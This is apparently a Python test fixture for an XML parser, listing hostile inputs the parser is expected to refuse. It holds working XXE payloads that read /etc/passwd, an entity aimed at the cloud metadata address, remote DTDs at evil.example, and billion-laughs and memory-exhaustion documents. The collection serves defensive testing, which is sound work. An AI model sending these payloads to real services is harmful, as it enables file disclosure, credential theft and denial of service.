"""Hostile XML: each of these must be refused without reading a file, an address, or filling the memory."""

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
DECLARED = {
    "external file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "external address": '<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/latest">]><a>&x;</a>',
    "billion laughs": f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]><a>&l11;</a>',
    "quadratic": f'<!DOCTYPE a [<!ENTITY x "{"A" * 60000}">]><a>{"&x;" * 5000}</a>',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><a/>',
    "remote dtd": '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>',
    "public dtd": '<!DOCTYPE a PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/x.dtd"><a/>',
    "lower case": '<!doctype a [<!entity x "y">]><a/>',
    "after a comment": f"<!--{' ' * 70_000}--><!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>",
    "attribute": "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/hostname'><!ATTLIST a b CDATA '&x;'>]><a/>",
    "unparsed entity": '<!DOCTYPE a [<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "file:///etc/passwd" NDATA n>]><a/>',
    "empty subset": "<!DOCTYPE a []><a/>",
}
HOSTILE: dict[str, bytes] = {
    **{name: text.encode() for name, text in DECLARED.items()},
    "utf-16": ('<?xml version="1.0" encoding="utf-16"?>' + DECLARED["external file"]).encode("utf-16"),
    "utf-16 without mark": DECLARED["external file"].encode("utf-16-le"),
    "utf-32": ('<?xml version="1.0" encoding="utf-32"?>' + DECLARED["external file"]).encode("utf-32"),
    "utf-7": b'<?xml version="1.0" encoding="utf-7"?>' + DECLARED["billion laughs"].encode("utf-7"),
    "byte order mark": b"\xef\xbb\xbf" + DECLARED["external file"].encode(),
    "too deep": b"<a>" * 100_000 + b"</a>" * 100_000,
    "undeclared entity": b"<a>&x;</a>",
    "one huge attribute": b'<a b="' + b"x" * 11_000_000 + b'"/>',
    "truncated": b"<a><b>words",
    "empty": b"",
    "no xml": b"\x00\x01\x02 not xml",
}
